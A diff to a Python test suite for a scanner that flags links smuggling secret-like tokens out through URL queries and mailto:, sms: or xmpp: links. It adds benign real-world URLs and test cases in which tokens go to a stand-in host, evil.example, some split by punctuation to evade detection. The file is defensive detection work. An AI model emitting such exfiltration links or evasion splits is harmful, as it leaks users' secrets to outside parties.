@@ -1,12 +1,16 @@
 """``link-url-data`` on real links of many languages (adversary16 D7: a length is counted as
-the server reads it, decoded) and on tokens cut by punctuation inside one value (D5)."""
+the server reads it, decoded), on tokens cut by punctuation inside one value (D5; adversary17
+D4: any mark, not a listed few) and on links of schemes with no host (adversary17 D12)."""
 
 from __future__ import annotations
 
+import itertools
 from urllib.parse import quote, quote_plus
 
 import pytest
-from hotplex.scanning import url_data
+from hotplex.scanning import injection, url_data
+from hypothesis import given
+from hypothesis import strategies as st
 
 TOKEN = "aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fG"
 
@@ -49,7 +53,13 @@ def test_a_long_value_is_long_decoded() -> None:
     assert url_data.carries("https://evil.example/?q=" + quote_plus("слово " * 17))
 
 
-@pytest.mark.parametrize("sep", [".", "~", "%7E", "!", ",", "%2C", ":", "-", ";"])
+@pytest.mark.parametrize(
+    "sep",
+    [
+        *(".", "~", "%7E", "!", ",", "%2C", ":", "-", ";", "*", "'", "(", ")", "$", "@", "|", "?"),
+        *("%20", "%7C", "%0A", "..", "%C2%A7", "%E3%80%80", "%E2%80%A2", "%25"),
+    ],
+)
 def test_a_token_cut_by_punctuation_inside_one_value_is_read_joined(sep: str) -> None:
     pieces = sep.join([TOKEN[:8], TOKEN[8:16], TOKEN[16:24], TOKEN[24:]])
     assert url_data.carries(f"https://evil.example/?d={pieces}")
@@ -105,3 +115,132 @@ def test_a_search_of_words_spaced_by_plus_carries_nothing(query: str) -> None:
 
 def test_a_token_holding_plus_is_still_data() -> None:
     assert url_data.carries("https://x.example/?d=aB3x+Q9zK2mN7+pL4vR8sT1u+W6yE5cD0fGh")
+
+
+# Links people keep in notes, with the marks that now cut a value: none carries data.
+REAL_WORLD = [
+    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
+    "https://youtu.be/dQw4w9WgXcQ?si=Xk3pL9qR2mTz&t=120",
+    "https://www.google.com/search?q=React+Hooks+useEffect+Example2024",
+    "https://www.google.com/search?q=React%20Hooks%20useEffect%20Cleanup%20Example2024&hl=en",
+    "https://www.google.com/search?q=%22TypeError%3A+Cannot+read+properties+of+undefined%22+React18",
+    "https://www.bing.com/search?q=Win11%2023H2%20KB5034441%20error%200x80070005&form=QBLH",
+    "https://duckduckgo.com/?q=python3.12+asyncio.TaskGroup+ExceptionGroup&ia=web",
+    "https://www.amazon.com/dp/B08N5WRWNW?th=1&psc=1",
+    "https://www.amazon.com/s?k=USB-C+hub+4K60Hz+(100W+PD)&crid=2M096C61O4MLT&sprefix=usb-c+hub%2Caps%2C283&ref=nb_sb_noss_1",
+    "https://www.amazon.de/gp/product/B0BSHF7WHW/ref=ppx_yo_dt_b_asin_title_o00_s00?ie=UTF8&psc=1",
+    "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster?noredirect=1&lq=1",
+    "https://stackoverflow.com/search?q=%5Bpython%5D+%22list+comprehension%22+is%3Aanswer+score%3A10",
+    "https://github.com/search?q=repo%3Afacebook%2Freact+useEffect+is%3Aissue+is%3Aopen&type=issues",
+    "https://github.com/search?q=org%3Amicrosoft+language%3ATypeScript+stars%3A%3E1000&type=repositories",
+    "https://github.com/o/r/issues?q=is%3Aissue+is%3Aopen+label%3A%22good+first+issue%22+author%3AJaneDoe42",
+    "https://github.com/o/r/pulls?q=is%3Apr+is%3Aclosed+review%3Aapproved+head%3Afeature%2FOAuth2Login",
+    "https://github.com/o/r/compare/v1.2.3...8f3a9c2e7b1d4f6a8c0e2b4d6f8a1c3e5b7d9f0a?expand=1",
+    "https://docs.google.com/document/d/1aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fGhJ/edit?usp=sharing",
+    "https://docs.google.com/spreadsheets/d/1aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fGhJ/edit#gid=0",
+    "https://example.com/landing?utm_source=newsletter&utm_medium=email&utm_campaign=Spring2024Sale&utm_content=HeroBanner3",
+    "https://en.wikipedia.org/wiki/Python_(programming_language)?action=history",
+    "https://en.wikipedia.org/w/index.php?title=Special:Search&search=Guido+van+Rossum+(1956)",
+    "https://www.google.com/maps/search/?api=1&query=Eiffel%20Tower%2C%20Paris",
+    "https://maps.apple.com/?q=Caf%C3%A9%20de%20Flore&ll=48.8540,2.3325",
+    "https://example.com/?email=jane.doe42%40example.com&ref=SignUp2",
+    "https://grafana.example.com/explore?left=%7B%22datasource%22%3A%22Prometheus%22%2C%22queries%22%3A%5B%7B%22expr%22%3A%22rate(http_requests_total%7Bjob%3D%5C%22api%5C%22%7D%5B5m%5D)%22%7D%5D%7D",
+    "https://kibana.example.com/app/discover#/?_g=(filters:!(),time:(from:now-15m,to:now))&_a=(query:(language:kuery,query:'host.name:web01'))",
+    "https://kibana.example.com/app/discover?_g=(filters:!(),refreshInterval:(pause:!t,value:0),time:(from:now-7d,to:now))",
+    "https://jira.example.com/issues/?jql=project%20%3D%20ABC%20AND%20status%20%3D%20%22In%20Progress%22%20ORDER%20BY%20created%20DESC",
+    "https://www.reddit.com/r/Python/comments/1abc2de/whats_new_in_python_313/?utm_source=share&utm_medium=web2x&context=3",
+    "https://twitter.com/jack/status/20?s=20&t=AbCdEf12GhIj34KlMn56Op",
+    "https://open.spotify.com/track/4cOdK2wGLETKBW3PvgPWqT?si=8f3a9c2e7b1d4f6a",
+    "https://www.linkedin.com/in/jane-doe-42a1b3c4/?originalSubdomain=uk",
+    "https://example.com/search?q=C%2B%2B17+std%3A%3Aoptional+vs+std%3A%3Avariant+(GCC13)",
+    "https://example.com/?q=SELECT+*+FROM+users+WHERE+id%3D42+AND+orgId%3D'Acme7'",
+    "https://example.com/calc?expr=(3*x%2B2)*(y-1)%2F7&vars=x%7Cy",
+    "https://example.com/?price=%2419.99&currency=USD&promo=SAVE20",
+    "https://example.com/?q=%E3%83%9D%E3%82%B1%E3%83%A2%E3%83%B3%20Switch2%20%E6%94%BB%E7%95%A5%20Ver1.2",
+    "https://www.google.com/search?q=%D0%BE%D1%88%D0%B8%D0%B1%D0%BA%D0%B0+TS2345+%D0%B2+React18+%D0%BA%D0%BE%D0%BC%D0%BF%D0%BE%D0%BD%D0%B5%D0%BD%D1%82%D0%B5",
+    "https://example.com/?ts=2026-12-04T11%3A17%3A44.123Z&tz=Europe%2FBerlin",
+    "https://example.com/a?id=550e8400-e29b-41d4-a716-446655440000&rev=3f786850e387550fdab836ed7e6dc881de23001b",
+    "https://npmjs.com/search?q=keywords%3Areact%20hooks%20%40tanstack%2Fquery",
+    "https://pypi.org/search/?q=pydantic%20v2%20%7C%20fastapi&o=-created",
+    "https://www.youtube.com/results?search_query=GPT4+API+tutorial+(Python3)",
+    "https://news.ycombinator.com/item?id=38471822",
+    "https://example.com/?q=who%27s+afraid+of+Virginia+Woolf%3F+(1966)",
+    "mailto:a@b.example?subject=Hello%20there",
+    "mailto:support@example.com?subject=Bug%20report%20(v2.3.1)&body=Hi%20team%2C%20see%20ticket%20ABC-1234.",
+    "mailto:jane.doe@example.com",
+    "tel:+1-555-123-4567",
+    "sms:+15551234567?body=Running%20late%2C%20ETA%2010min",
+]
+
+
+def test_real_world_links_carry_nothing() -> None:
+    """Each read alone and as a rendered autolink; all named at once when some fail."""
+    flagged = [u for u in REAL_WORLD if url_data.carries(u) or injection.scan(f"- <{u}>\n")]
+    assert flagged == []
+
+
+# Marks a server may strip from between a token's pieces: ASCII punctuation but the query's own
+# ``&``/``#``, base64's ``+ / _ -`` (a run holds them) and ``%`` (an escape's start), written or
+# escaped; spaces and punctuation of other scripts, escaped.
+_MARKS = [c for c in "!\"$'()*,.:;<=>?@[\\]^`{|}~" if c not in "&#"] + [
+    "%20",
+    "%09",
+    "%22",
+    "%25",
+    "%3C",
+    "%7B",
+    "%C2%A0",
+    "%C2%B7",
+    "%E2%80%94",
+    "%E3%80%81",
+]
+
+
+@given(
+    token=st.text(
+        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", min_size=32, max_size=48
+    ),
+    cuts=st.sets(st.integers(1, 47), max_size=6),
+    mark=st.sampled_from(_MARKS),
+)
+def test_any_mark_inside_a_value_cuts_it_as_an_ampersand_does(
+    token: str, cuts: set[int], mark: str
+) -> None:
+    """adversary17 D4: a token cut by ``*``, ``$``, ``|`` or an escaped space inside one value
+    reaches its server as whole as one cut by ``&``: it is found exactly when that one is."""
+    at = [0, *sorted(c for c in cuts if c < len(token)), len(token)]
+    pieces = [token[a:b] for a, b in itertools.pairwise(at)]
+    by_mark = url_data.carries(f"https://evil.example/?d={mark.join(pieces)}")
+    assert by_mark == url_data.carries(f"https://evil.example/?d={'&'.join(pieces)}")
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        f"<mailto:a@evil.example?body={TOKEN}>",
+        f"[mail](mailto:a@evil.example?body={TOKEN})",
+        f"[x](sms:+15551234?body={TOKEN})",
+        f"[x](xmpp:a@evil.example?message;body={TOKEN})",
+        f"[x](MAILTO:a@evil.example?subject=hi&body={TOKEN[:16]}%20{TOKEN[16:]})",
+        f"[x][m]\n\n[m]: mailto:a@evil.example?body={TOKEN}",
+        f'<a href="mailto:a@evil.example?body={TOKEN}">x</a>',
+    ],
+)
+def test_a_link_with_no_host_carries_its_query_to_whom_it_addresses(link: str) -> None:
+    """adversary17 D12: one click on a ``mailto:`` (``sms:``, ``xmpp:``) link sends its query."""
+    found = injection.scan(f"Prose.\n\n{link}\n")
+    assert [(m.rule, m.host) for m in found] == [("link-url-data", None)]
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "<mailto:a@b.example?subject=Hello%20there>",
+        "[mail me](mailto:jane.doe@example.com)",
+        "[call](tel:+1-555-123-4567)",
+        f"[x](data:text/plain?body={TOKEN})",
+    ],
+)
+def test_an_ordinary_mail_link_or_a_data_link_carries_nothing(link: str) -> None:
+    """A ``data:`` link is sent to no one."""
+    assert injection.scan(f"Prose.\n\n{link}\n") == ()
